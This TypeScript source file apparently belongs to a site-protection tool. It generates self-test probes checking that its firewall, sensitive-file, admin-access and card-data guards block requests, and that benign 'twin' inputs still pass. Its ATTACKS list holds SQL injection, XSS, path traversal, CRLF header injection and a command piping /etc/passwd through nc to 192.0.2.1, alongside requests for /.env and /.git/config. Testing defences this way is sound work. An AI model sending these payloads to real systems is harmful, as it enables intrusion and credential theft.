import type { ProfileAct } from "../../platforms/act.ts"
import type { ProfileCanary } from "../../platforms/canary/canary.ts"
import { jsonOf, mutationOf } from "../acts/graphql/written.ts"
import type { SitePlan } from "../plan.ts"
import type { StageName } from "../stages/stage.ts"
import { browserAt, type Asking, type ProveOptions } from "./browser.ts"
import type { Tried } from "./proof.ts"

/** One question of the gate to itself. */
export interface Probe {
  readonly guard: StageName
  readonly claim: string
  /** What is asked, for people: `GET /.env`. */
  readonly door: string
  readonly method: string
  readonly target: string
  /** A form's body. */
  readonly form?: string
  /** True where the honest twin of an attack must pass. */
  readonly honest?: true
}

const ATTACKS = [
  "1' OR '1'='1' UNION SELECT login,password FROM members-- ",
  "<script>alert(document.cookie)</script>",
  "../../../../../../etc/passwd",
  "; cat /etc/passwd | nc 192.0.2.1 80",
  "x\r\nSet-Cookie: session=1",
] as const
const TWINS = ["O'Reilly", "スニーカー 26.5", "manual/index", "cat food", "red and white"] as const

/** `GET /?q=…`: attack-like values at the door of everybody, and their honest twins. */
const wafProbes = (): readonly Probe[] => {
  const probe = (value: string, door: string): Probe => ({
    guard: "waf",
    claim: "attacks",
    door,
    method: "GET",
    target: `/?q=${encodeURIComponent(value)}`,
  })
  return [
    ...ATTACKS.map((value, at) => probe(value, `GET / (${at + 1})`)),
    ...TWINS.map((value, at): Probe => ({ ...probe(value, `GET / (${at + 1}=)`), honest: true })),
  ]
}

/** A number that card companies give to those who test; it belongs to nobody. */
const TEST_CARD = "4111 1111 1111 1111"
/** A product's number of the same length of digits, which is no card's. */
const cardDataProbes = (logInPage: string): readonly Probe[] => {
  const probe = (target: string, door: string, field: string, value: string): Probe => ({
    guard: "card-data",
    claim: "sent",
    door,
    method: "POST",
    target,
    form: new URLSearchParams({ [field]: value }).toString(),
  })
  return [
    ...new Set(["/", logInPage]),
  ].flatMap((target): readonly Probe[] => [
    probe(target, `POST ${target}`, "card_number", TEST_CARD),
    probe(target, `POST ${target} (note)`, "note", `カード番号 ${TEST_CARD.replaceAll(" ", "")}`),
    { ...probe(target, `POST ${target} (=)`, "order_number", "4111111111111111"), honest: true },
  ]) // prettier-ignore
}

/** A word that a pattern of the profile surely matches; null where it is no plain word. */
const wordOf = ({ source }: RegExp): string | null => {
  // Whatever it is, as long as it is there.
  if (source === "^") return "1"
  const bare = source.replace(/^\^/, "").replace(/\$$/, "").replaceAll("\\/", "/").replaceAll("\\.", ".")
  return /^[A-Za-z0-9_/.-]+$/.test(bare) ? bare : null
}
const pairsOf = (told: Readonly<Record<string, RegExp>> | undefined): readonly (readonly [string, string])[] | null => {
  const pairs = Object.entries(told ?? {}).map(([name, pattern]) => [name, wordOf(pattern)] as const)
  return pairs.every((pair): pair is readonly [string, string] => pair[1] !== null) ? pairs : null
}

/** What fields of an act hold, by the act's own names for them. */
export type FieldValues = Partial<Record<keyof ProfileAct["fields"], string>>
export interface ActForm {
  readonly door: string
  readonly method: string
  readonly target: string
  readonly body: Pick<Asking, "form" | "json">
}

/** As the shop takes it: what reads JSON or GraphQL makes nothing of a form. */
const bodyFor = ({ mutation, reads }: ProfileAct, named: readonly (readonly [string, string])[]): ActForm["body"] => {
  if (mutation !== undefined) return { json: { query: mutationOf(mutation, named) } }
  return reads === "json" ? { json: jsonOf(named) } : { form: new URLSearchParams(named.map(([name, value]) => [name, value])).toString() } // prettier-ignore
}

/** An address at which an act is done, for one that has a pattern. */
export const exampleOf = (act: ProfileAct, recipe: ProfileCanary | undefined): string | undefined => {
  const how = recipe?.acts[act.id]
  return act.example ?? (how !== undefined && "json" in how ? how.target : undefined)
}

/** An act in its own words, as a body that ends at the gate; null where the profile's patterns do not tell them. */
export const actForm = (
  act: ProfileAct,
  adminFolder: string,
  values: FieldValues,
  example = act.example,
): ActForm | null => {
  const inExample = example?.includes("?") === true
  const [query, when] = [inExample ? [] : pairsOf(act.query), pairsOf(act.when)]
  const place = typeof act.path === "string" && !inExample ? act.path : example
  if (place === undefined || query === null || when === null) return null
  const named: (readonly [string, string])[] = []
  for (const [key, value] of Object.entries(values)) {
    const name = act.fields[key as keyof FieldValues]?.[0] // its own keys
    // XML is read by nobody here, whatever stands in it.
    if (name === undefined && act.reads !== "xml") return null
    if (name !== undefined) named.push([name, value])
  }
  const told = when.filter(([name]) => !named.some(([other]) => other === name))
  const path = place.replace("{admin}", adminFolder)
  const search = query.length === 0 ? "" : `?${new URLSearchParams(query.map(([name, value]) => [name, value]))}`
  const door = `${act.method} ${path}${act.mutation === undefined ? "" : ` (${act.mutation})`}`
  const body = act.method === "GET" ? {} : bodyFor(act, [...told, ...named])
  return { door, method: act.method, target: path + search, body }
}

/** What needs one question only, guard by guard, of those that are enforced. */
export const probesOf = ({
  modes,
  adminFolder,
  logInPage,
}: Pick<SitePlan, "modes" | "adminFolder" | "logInPage">): readonly Probe[] => {
  const on = (guard: StageName): boolean => modes[guard] === "enforce"
  const get = (guard: StageName, claim: string, target: string): Probe => ({
    guard,
    claim,
    door: `GET ${target}`,
    method: "GET",
    target,
  })
  return [
    ...(on("limits")
      ? [{ guard: "limits", claim: "sizes", door: "OPTIONS /", method: "OPTIONS", target: "/", form: "x=1" } as const]
      : []),
    ...(on("sensitive-files")
      ? ["/.env", "/.git/config", "/backup.sql"].map((target) => get("sensitive-files", "files", target))
      : []),
    ...(on("admin-access") && adminFolder !== "" ? [get("admin-access", "strangers", `${adminFolder}/`)] : []),
    ...(on("waf") ? wafProbes() : []),
    ...(on("card-data") ? cardDataProbes(logInPage) : []),
  ]
}

/** Asks each once, from one of nobody's addresses. */
export const tryProbes = async (site: SitePlan, options: ProveOptions, host: number): Promise<readonly Tried[]> => {
  const tried: Tried[] = []
  for (const { guard, claim, door, method, target, form, honest } of probesOf(site)) {
    const browser = browserAt(site, options, host)
    const { said } = await browser.ask({ method, target, ...(form === undefined ? {} : { form }) })
    const acted = honest ? said === "passed" : said.startsWith(`${guard}.`)
    tried.push({ guard, claim, door, reason: said, acted, reached: 0, steps: [] })
  }
  return tried
}
